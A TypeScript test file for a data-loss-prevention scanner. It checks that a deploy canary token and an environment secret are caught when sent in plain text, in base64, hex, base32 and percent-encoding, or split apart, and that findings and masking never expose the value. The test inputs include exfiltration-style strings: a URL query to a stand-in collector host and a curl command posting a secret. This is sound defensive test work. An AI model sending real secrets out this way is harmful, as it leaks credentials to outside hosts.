import { describe, expect, test } from "bun:test";
import { compileSecretMatchers, scanTextDlp, type CompiledSecrets } from "../../../../src/engine/scanners/dlp/index.ts";
import { compileRuleSet } from "../../../../src/engine/match/index.ts";
import { encodeBase32 } from "../../../../src/engine/normalize/codecs/index.ts";
import { b64, b64url, DLP_RULES, fakeChars, hex, hexBytes, utf8 } from "./fakes.ts";

const CANARY = ["canary", "Tok", fakeChars(101, 14)].join("-");
const ENV_VALUE = fakeChars(202, 28, "abcdefghijklmnopqrstuvwxyz0123456789!@#%^*");
const NO_RULES = compileRuleSet([]);
const pct = (s: string) => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");

const secrets: CompiledSecrets = compileSecretMatchers({
  canaries: [{ name: "Deploy Canary", value: CANARY }],
  envSecrets: [{ name: "PAYMENTS_API_SECRET", value: ENV_VALUE }],
});

/** [form, build(value)] — every way a value may be sent out. */
const FORMS: ReadonlyArray<readonly [string, (v: string) => string, string]> = [
  ["literally", (v) => `here it is: ${v} ok`, "plaintext"],
  ["in a URL query", (v) => `https://collector.example.net/c?d=${v}`, "plaintext"],
  ["base64", (v) => `blob=${b64(v)}`, "base64"],
  ["base64 inside a larger base64 blob (offset 1)", (v) => b64(`x${v}`), "base64"],
  ["base64 inside a larger base64 blob (offset 2)", (v) => b64(`xy:${v}!`), "base64"],
  ["base64url unpadded", (v) => `/u/${b64url(v)}`, "base64"],
  ["hex lower case", (v) => `h=${hex(v)}`, "hex"],
  ["hex upper case", (v) => hex(v).toUpperCase(), "hex"],
  ["hex with ':'", (v) => hexBytes(v).join(":"), "hex"],
  ["hex with spaces", (v) => hexBytes(v).join(" "), "hex"],
  ["hex with '\\x'", (v) => hexBytes(v).map((b) => `\\x${b}`).join(""), "hex"],
  ["hex with '0x' and commas", (v) => hexBytes(v).map((b) => `0x${b}`).join(","), "hex"],
  ["base32", (v) => encodeBase32(utf8(v)), "base32"],
  ["percent-encoded", (v) => pct(v), "url"],
  ["base64 of hex", (v) => b64(hex(v)), "base64+hex"],
];

const findingsFor = (text: string) => scanTextDlp(NO_RULES, text, { location: "body" }, secrets);

describe("canary tokens", () => {
  test.each(FORMS)("found %s", (_, build) => {
    const findings = findingsFor(build(CANARY));
    const hit = findings.find((f) => f.rule_id === "dlp.canary.deploy_canary");
    expect(hit).toBeDefined();
    expect(hit!.severity).toBe("critical");
    expect(hit!.action).toBe("block");
    expect(hit!.message).toContain('"Deploy Canary"');
    expect(JSON.stringify(findings)).not.toContain(CANARY);
  });

  test("found in any letter case", () => {
    expect(findingsFor(CANARY.toUpperCase()).some((f) => f.rule_id === "dlp.canary.deploy_canary")).toBe(true);
  });

  test.each([
    ["split by spaces", (v: string) => v.match(/.{1,5}/g)!.join(" ")],
    ["split by dots and underscores", (v: string) => [...v.replace(/-/g, "")].join("._")],
    ["split by slashes", (v: string) => v.match(/.{1,3}/g)!.join("/")],
  ])("found %s", (_, build) => {
    const hit = findingsFor(`sending ${build(CANARY)} now`).find((f) => f.rule_id === "dlp.canary.deploy_canary");
    expect(hit).toBeDefined();
  });

  test("a text without the canary is clean", () => {
    expect(findingsFor(`canary-Tok-${fakeChars(999, 14)} is a different value`)).toEqual([]);
  });
});

describe("environment secrets", () => {
  test.each(FORMS)("found %s, value never shown", (_, build, encoding) => {
    const findings = findingsFor(build(ENV_VALUE));
    const hit = findings.find((f) => f.rule_id === "dlp.env_leak");
    expect(hit).toBeDefined();
    expect(hit!.severity).toBe("critical");
    expect(hit!.message).toContain("PAYMENTS_API_SECRET");
    expect(hit!.encoding === encoding || hit!.encoding!.startsWith(encoding)).toBe(true);
    const json = JSON.stringify(findings);
    expect(json).not.toContain(ENV_VALUE);
    expect(json).not.toContain(ENV_VALUE.slice(0, 4));
    expect(json).not.toContain(b64(ENV_VALUE).slice(0, 12));
    expect(json).not.toContain(hex(ENV_VALUE).slice(0, 12));
  });

  test("the literal is matched with its exact case", () => {
    const swapped = [...ENV_VALUE].map((c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase())).join("");
    expect(findingsFor(`v=${swapped}`).some((f) => f.rule_id === "dlp.env_leak")).toBe(false);
  });

  test("values containing spaces or quotes are found too", () => {
    const wide = compileSecretMatchers({ envSecrets: [{ name: "DB_DSN", value: `user=app password='${fakeChars(5, 20)}'` }] });
    const text = `connect: user=app password='${fakeChars(5, 20)}' host=db`;
    expect(scanTextDlp(NO_RULES, text, { location: "t" }, wide).map((f) => f.rule_id)).toEqual(["dlp.env_leak"]);
  });

  test("rule findings and secret findings come together", () => {
    const aws = ["AK", "IA", fakeChars(77, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")].join("");
    const withAws = compileSecretMatchers({ envSecrets: [{ name: "AWS_ACCESS_KEY_ID", value: aws }] });
    const ids = scanTextDlp(DLP_RULES, b64(aws), { location: "t" }, withAws).map((f) => `${f.rule_id}/${f.encoding}`);
    expect(ids).toContain("dlp.aws_access_key_id/base64");
    expect(ids).toContain("dlp.env_leak/base64");
  });

  test("no secrets compiled: nothing extra is reported", () => {
    const none = compileSecretMatchers({});
    expect(scanTextDlp(NO_RULES, ENV_VALUE, { location: "t" }, none)).toEqual([]);
    expect(none.canaryCount + none.envCount).toBe(0);
  });

  test("values shorter than 8 characters are ignored", () => {
    const short = compileSecretMatchers({ envSecrets: [{ name: "X", value: "abc" }] });
    expect(scanTextDlp(NO_RULES, "abc abc abc", { location: "t" }, short)).toEqual([]);
  });
});

describe("mask", () => {
  test("replaces every value and encoded form, leaves the rest", () => {
    const text = `curl -H "X-Key: ${ENV_VALUE}" -d ${b64(ENV_VALUE)} https://example.net/ # ${CANARY}`;
    const masked = secrets.mask(text);
    expect(masked).not.toContain(ENV_VALUE);
    expect(masked).not.toContain(b64(ENV_VALUE).slice(0, 16));
    expect(masked).not.toContain(CANARY);
    expect(masked.startsWith('curl -H "X-Key: …[')).toBe(true);
    expect(masked).toContain("https://example.net/");
  });

  test("text without secrets comes back unchanged", () => {
    expect(secrets.mask("nothing to hide here")).toBe("nothing to hide here");
  });
});
